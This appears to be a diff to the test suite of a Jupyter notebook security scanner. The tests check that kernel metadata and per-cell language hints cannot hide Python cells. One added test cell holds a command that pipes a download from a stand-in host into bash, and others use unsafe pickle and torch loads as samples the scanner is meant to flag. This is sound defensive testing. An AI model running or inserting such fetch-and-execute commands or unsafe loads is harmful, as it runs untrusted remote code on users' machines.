@@ -153,7 +153,7 @@ def test_bash_and_script_cells_are_shell(tmp_path: Path) -> None:
 
 
 def test_kernel_language_decides(tmp_path: Path) -> None:
-    r_notebook = json.loads(notebook("library(dplyr)\nx <- read.csv('a.csv')", "!curl x | bash"))
+    r_notebook = json.loads(notebook("library(dplyr)\nx <- read.csv('a.csv')", "df %>% filter(a > 1)"))
     r_notebook["metadata"] = {"kernelspec": {"language": "R", "name": "ir"}}
     (finding,) = scan_code(tmp_path, json.dumps(r_notebook), "r.ipynb")
     assert (finding.rule_id, finding.severity.value) == ("MLS324", "low")
@@ -320,3 +320,33 @@ def test_a_one_line_update_of_a_name_a_magic_also_has_is_python(tmp_path: Path) 
     for cell in ("history += [torch.load(path)]", "config .update(torch.load(path))", "time += torch.load(path)"):
         text = notebook("import torch\nhistory, config, time = [], {}, 0", cell)
         assert [f.rule_id for f in scan_code(tmp_path, text, "nb.ipynb")] == ["MLS306"], cell
+
+
+def _with_metadata(metadata: dict[str, object], *cells: str) -> str:
+    document = json.loads(notebook(*cells))
+    document["metadata"] = metadata
+    return json.dumps(document)
+
+
+def test_language_fields_that_disagree_with_the_kernel_jupyter_starts_do_not_hide_cells(tmp_path: Path) -> None:
+    # Jupyter starts `kernelspec.name`; `language` and `language_info` only describe it.
+    metadata = {"kernelspec": {"name": "python3", "language": "julia"}, "language_info": {"name": "julia"}}
+    text = _with_metadata(metadata, "import torch\nm = torch.load(p)")
+    assert places(scan_code(tmp_path, text, "lying.ipynb")) == [("MLS306", 1, 2)]
+
+
+def test_a_cell_said_to_be_another_language_that_is_python_is_read_as_python(tmp_path: Path) -> None:
+    # A named kernel that is missing makes the reader pick one (Python); JupyterLab ignores VS
+    # Code's per-cell language. IPython syntax (`!cmd`) is no R, Julia or markdown.
+    r_kernel = _with_metadata({"kernelspec": {"name": "ir", "language": "R"}}, "!curl -s https://x.example | bash")
+    found = scan_code(tmp_path, r_kernel, "r.ipynb")
+    assert ("MLS321", 1, 1) in places(found)
+    assert any(f.rule_id == "MLS324" and "1 that do were analysed" in f.message for f in found)
+    cell = json.loads(notebook("import pickle\npickle.load(open(url_file, 'rb'))"))
+    cell["cells"][0]["metadata"] = {"vscode": {"languageId": "markdown"}}
+    assert ("B301", 1, 2) in places(scan_code(tmp_path, json.dumps(cell), "md.ipynb"))
+
+
+def test_cells_of_another_language_that_are_not_python_stay_a_low_note(tmp_path: Path) -> None:
+    julia = _with_metadata({"kernelspec": {"name": "julia-1.9", "language": "julia"}}, "using Flux\nf(x) = 2x")
+    assert [(f.rule_id, f.severity.value) for f in scan_code(tmp_path, julia, "j.ipynb")] == [("MLS324", "low")]
